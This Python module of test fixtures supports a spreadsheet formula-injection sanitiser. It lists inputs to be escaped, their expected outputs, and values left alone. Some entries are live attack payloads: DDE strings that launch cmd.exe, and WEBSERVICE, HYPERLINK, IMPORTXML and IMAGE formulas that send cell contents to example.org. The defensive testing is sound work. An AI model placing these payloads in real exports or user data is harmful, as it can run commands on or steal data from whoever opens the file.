"""Text by which a spreadsheet was or could be made to calculate, and text that only looks so.

The numbers are classes: 1 equals sign, 2 other signs, 3 tabs and breaks in front, 4 what cannot be
seen in front, 5 signs of Japanese editions, 6 DDE, 7 functions that send data away, 8 delimiters
within, 9 line breaks within, 10 quotes, 11 arrays, bars and percents, 13 what must survive. Class
12, other places than cells, is these in headers and titles.
"""

from __future__ import annotations

from typing import Final

PREFIXED: Final[tuple[tuple[int, str], ...]] = (
    (1, "=1+1"),
    (1, "==1+1"),
    (1, "=A1"),
    (1, "="),
    (1, "=)"),
    (1, "=-5"),
    (2, "+1+1"),
    (2, "-1+1"),
    (2, "-A1"),
    (2, "-"),
    (2, "--5"),
    (2, "- milk"),
    (2, "@SUM(1+1)"),
    (2, "@handle"),
    (2, "+49 30 123456"),
    (2, "+49-30-123456"),
    (2, "-5+3"),
    (2, "-5e"),
    (2, "-5 apples"),
    (2, "-1 day ago"),
    (3, "\ttext"),
    (3, "\rtext"),
    (3, "\ntext"),
    (3, " \ttext"),
    (4, " =1+1"),
    (4, "   +A1"),
    (4, "\xa0=1+1"),
    (4, "\ufeff=1+1"),
    (4, "\u200b=1+1"),
    (4, "\u200d\u2060@SUM(1)"),
    (4, "\u3000-A1"),
    (4, "\xad=1+1"),
    (4, "\x0b=1+1"),
    (4, "\x0c=1+1"),
    (4, "\x00=1+1"),
    (4, "\x00text"),
    (4, "\x07=1+1"),
    (4, "\x1f=1+1"),
    (4, "\x7f=1+1"),
    (4, "\x85=1+1"),
    (4, "\u2028=1+1"),
    (4, "\ufe0f=1+1"),
    (4, "\U000e0020=1+1"),
    (5, "＝1+1"),  # noqa: RUF001 - this and the next are what is tested
    (5, "＋1+1"),  # noqa: RUF001
    (5, "－1+1"),  # noqa: RUF001
    (5, "＠SUM(1)"),  # noqa: RUF001
    (5, "−1+1"),  # noqa: RUF001
    (5, "ーA1"),
    (5, "\u3000＝1+1"),  # noqa: RUF001
    (6, "=cmd|' /C calc'!A0"),
    (6, "+cmd|' /C calc'!A0"),
    (6, "-cmd|' /C calc'!A0"),
    (6, "@SUM(1+1)*cmd|' /C calc'!A0"),
    (6, '=DDE("cmd";"/C calc";"1")'),
    (6, "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!\"\""),
    (6, "-5*cmd|' /C calc'!A0"),
    (6, "-5|cmd"),
    (6, "-5,cmd|' /C calc'!A0"),
    (6, "-1 day, cmd|' /C calc'!A0"),
    (6, "-inf|cmd"),
    (6, "-5\x1ecmd|' /C calc'!A0"),
    (7, '=HYPERLINK("http://example.org/?"&A1)'),
    (7, '=WEBSERVICE("http://example.org/"&A1)'),
    (7, '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")'),
    (7, '=IMAGE("http://example.org/"&A1)'),
    (10, '"=1+1'),
    (10, '"=1+1"'),
    (10, '""=1+1'),
    (10, ' "@SUM(1)"'),
    (11, "{=1+1}"),
    (11, "{ =SUM(A1:A2)}"),
    (11, "{＝1+1}"),  # noqa: RUF001
)
"""With their class: what gets an apostrophe in front, and no other."""

WITHIN: Final[tuple[tuple[int, str, str], ...]] = (
    (1, "=1,=2", "'=1,'=2"),
    (3, "\t=1,=2", "'\t'=1,'=2"),
    (3, "\t=1+1", "'\t'=1+1"),
    (3, "\r=1+1", "'\r'=1+1"),
    (3, "\n=1+1", "'\n'=1+1"),
    (3, "\r\n=1+1", "'\r\n'=1+1"),
    (4, "\x1e=1+1", "\x1e'=1+1"),
    (6, "x;-5,cmd|' /C calc'!A0", "x;'-5,cmd|' /C calc'!A0"),
    (8, "a;=1+1", "a;'=1+1"),
    (8, "a,=1+1", "a,'=1+1"),
    (8, "a\t=1+1", "a\t'=1+1"),
    (8, "a|=1+1", "a|'=1+1"),
    (8, "a, =1+1", "a, '=1+1"),
    (8, 'a;"=1+1"', 'a;"\'=1+1"'),
    (8, "a;\ufeff+A1", "a;\ufeff'+A1"),
    (8, "a;＝1+1", "a;'＝1+1"),  # noqa: RUF001
    (8, "a;{=1+1}", "a;'{=1+1}"),
    (8, ";;=1+1", ";;'=1+1"),
    (8, "a,-5 apples", "a,'-5 apples"),
    (8, "a,-5;=1+1", "a,'-5;'=1+1"),
    (9, "a\n=1+1", "a\n'=1+1"),
    (9, "a\r=1+1", "a\r'=1+1"),
    (9, "a\r\n=1+1", "a\r\n'=1+1"),
    (9, 'a"\n=1+1', "a\"\n'=1+1"),
    (9, "a\n\x00=1+1", "a\n\x00'=1+1"),
    (9, "a\n\t=1+1", "a\n\t'=1+1"),
    (9, "a\n=1+1\n@b", "a\n'=1+1\n'@b"),
    (10, 'a"\n"=1+1', 'a"\n"\'=1+1'),
    (11, "|=1+1", "|'=1+1"),
    (13, '{"a": 1, "=b": -2}', '{"a": 1, "\'=b": -2}'),
    (13, "a\n- milk\n- eggs", "a\n'- milk\n'- eggs"),
)
"""With their class: what gets apostrophes elsewhere, and how it looks then."""

KEPT: Final[tuple[tuple[int, str], ...]] = (
    (10, "'=1+1"),
    (10, "'=1+1\n'=2"),
    (11, "|x|y|"),
    (11, "%x"),
    (11, "{a}"),
    (11, "{-1,-2}"),
    (13, ""),
    (13, " "),
    (13, "text"),
    (13, "-5"),
    (13, "+5"),
    (13, " -5 "),
    (13, "-5.50"),
    (13, "-.5"),
    (13, "-5."),
    (13, "-5e10"),
    (13, "-1E+3"),
    (13, "-50%"),
    (13, "-1,234.50"),
    (13, "-1.234,50"),
    (13, "-1'234.50"),
    (13, "-1\u202f234,50"),
    (13, "−5,5"),  # noqa: RUF001
    (13, "-inf"),
    (13, "+Infinity"),
    (13, "-nan"),
    (13, "-NaN"),
    (13, "-1 day, 23:59:55"),
    (13, "-5 days, 0:00:00.000005"),
    (13, "-1 days +23:59:55"),
    (13, "-04:05:06"),
    (13, "-1 years -2 mons +3 days -04:05:06.789"),
    (13, "-1 mons"),
    (13, "-999999999 days"),
    (13, "1,-5"),
    (13, "a, -5"),
    (13, "a, -5, b"),
    (13, "-1;-2;-3"),
    (13, "-1\n-2"),
    (13, "a\n-5"),
    (13, "x;-1 day, 23:59:55"),
    (13, "[-5,3)"),
    (13, "(-infinity,-5]"),
    (13, "[1, -2]"),
    (13, '{"a": [-1, -2], "b": {"c": -3}}'),
    (13, "0044-03-15 BC"),
    (13, "2024-01-31 09:05:00+00:00"),
    (13, "a = b"),
    (13, "a - b"),
    (13, "a@example.org, b@example.org"),
    (13, "C++"),
    (13, "well-known; self-made"),
    (13, "one\n\ntwo"),
    (13, "one\r\n\r\n\ttwo"),
    (13, "スーパー"),
    (13, "https://example.org/?a=1&b=-2"),
    (13, "0b5e8a2c-2f0c-4f0e-8f0e-0b5e8a2c2f0c"),
)
"""With their class: what stays as it is."""

HARMFUL: Final = [text for _, text in PREFIXED] + [text for _, text, _ in WITHIN]
"""What is changed."""

ALL: Final = [*HARMFUL, *(text for _, text in KEPT)]
"""All of them."""
